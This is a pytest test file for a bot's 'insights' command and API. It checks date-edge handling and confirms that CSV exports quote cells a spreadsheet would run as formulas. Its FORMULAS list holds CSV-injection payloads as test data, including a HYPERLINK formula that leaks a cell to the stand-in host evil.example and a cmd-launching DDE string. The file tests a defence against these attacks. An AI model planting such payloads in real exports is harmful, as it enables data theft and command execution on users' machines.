"""Insights at the calendar's ends and as a spreadsheet opens them: ``until=9999-12-31``
reads as "until now" and ``0001-01-01`` is one sentence, on the command line, the API and
the page (never a 500 or a traceback); ``--csv`` quotes every cell a spreadsheet would
run as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import uuid
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from typer.testing import CliRunner

from adapters.cli.main import app
from bot.config import load_settings
from bot.sessions import SessionStore
from bot.sessions.sql import SqlSessions
from retrieval.encoding.embed import SentenceTransformerEmbedder
from retrieval.store.weaviate import WeaviateStore
from retrieval.store.weaviate.server import Endpoint
from tests.pages_harness import Served, serving
from tests.test_insights import NOW, Seeded, write_log

runner = CliRunner()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def asked(kb: str, questions: list[str]) -> list[Seeded]:
    return [
        Seeded(kb, "slack", q, "answer", "quick", NOW - 60 * (i + 1), 500.0, (), 0.9)
        for i, q in enumerate(questions)
    ]


def seed(data: Path, log: list[Seeded]) -> None:
    async def go() -> None:
        async with SessionStore.open(data / "sessions.sqlite3") as store:
            await write_log(store, log)

    data.mkdir(parents=True, exist_ok=True)
    asyncio.run(go())


def test_csv_cells_never_open_as_formulas(
    weaviate_env: Endpoint, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kb: str
) -> None:
    seed(tmp_path / "data", asked(kb, [*FORMULAS, "What did we decide about Auth0?"]))
    result = runner.invoke(app, ["insights", "--kb", kb, "--csv", "--no-gaps"])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    questions = {r["question"] for r in rows}
    assert questions == {"'" + f for f in FORMULAS} | {"What did we decide about Auth0?"}
    for row in rows:  # no cell of any column starts a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--until", "9999-12-31"], None),
        (["--since", "2020-01-01", "--until", "9999-12-31"], None),
        (["--until", "0001-01-01"], "--until 0001-01-01 is before 1970-01-01"),
        (["--since", "0001-01-01"], "--since 0001-01-01 is before 1970-01-01"),
        (["--since", "9999-12-31"], "--since 9999-12-31 is after today"),
    ],
)
def test_the_command_takes_calendar_ends_or_says_why_not(
    weaviate_env: Endpoint, tmp_path: Path, kb: str, args: list[str], said: str | None
) -> None:
    seed(tmp_path / "data", asked(kb, ["Who owns the Keycloak cut-over?"]))
    result = runner.invoke(app, ["insights", "--kb", kb, "--json", "--no-gaps", *args])
    assert "Traceback" not in result.stdout + result.stderr
    if said is None:
        assert result.exit_code == 0, result.stderr
        assert '"questions": 1' in result.stdout
    else:
        shown = " ".join(result.stderr.split())  # as one line, however the terminal wraps
        assert result.exit_code == 1 and said in shown and shown.count("Error:") == 1


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def world(
    weaviate_endpoint: Endpoint,
    store: WeaviateStore,
    embedder: SentenceTransformerEmbedder,
    tmp_path_factory: pytest.TempPathFactory,
) -> AsyncIterator[tuple[Served, str]]:
    kb = f"t{uuid.uuid4().hex[:10]}"
    settings = load_settings(
        data_dir=tmp_path_factory.mktemp("edges") / "data", admin_tokens=f"admin-e:{kb}"
    )
    async with serving(settings, weaviate_endpoint, store, embedder) as served:
        sessions = served.services.sessions
        assert isinstance(sessions, SqlSessions)
        await write_log(sessions, asked(kb, ["Who owns the Keycloak cut-over?"]))
        yield served, kb


EDGES = [
    ("until=9999-12-31", 200, None),
    ("since=2020-01-01&until=9999-12-31", 200, None),
    ("until=0001-01-01", 422, "until 0001-01-01 is before 1970-01-01"),
    ("since=0001-01-01", 422, "since 0001-01-01 is before 1970-01-01"),
    ("since=9999-12-31", 422, "since 9999-12-31 is after today"),
]


@pytest.mark.parametrize(("query", "status", "said"), EDGES)
async def test_the_api_and_page_take_calendar_ends_or_say_why_not(
    world: tuple[Served, str],
    caplog: pytest.LogCaptureFixture,
    query: str,
    status: int,
    said: str | None,
) -> None:
    served, _ = world
    caplog.set_level(logging.WARNING)
    headers = {"Authorization": "Bearer admin-e"}
    url = f"{served.url}/api/insights?gaps=false&{query}"
    async with served.http.get(url, headers=headers) as r:
        body = await r.json()
        assert r.status == status, body
    if said is None:
        assert body["questions"] == 1
    else:
        assert said in body["error"]

    async with served.http.post(f"{served.url}/insights", data={"token": "admin-e"}) as r:
        assert r.status == 200, await r.text()
        page = str(r.url)
    async with served.http.get(f"{page}?{query}") as r:
        text = await r.text()
        assert r.status == status, text
    if said is None:
        assert "<b>1</b><span>questions</span>" in text
    else:
        assert said in text
    assert not [r for r in caplog.records if r.exc_info]  # no traceback logged
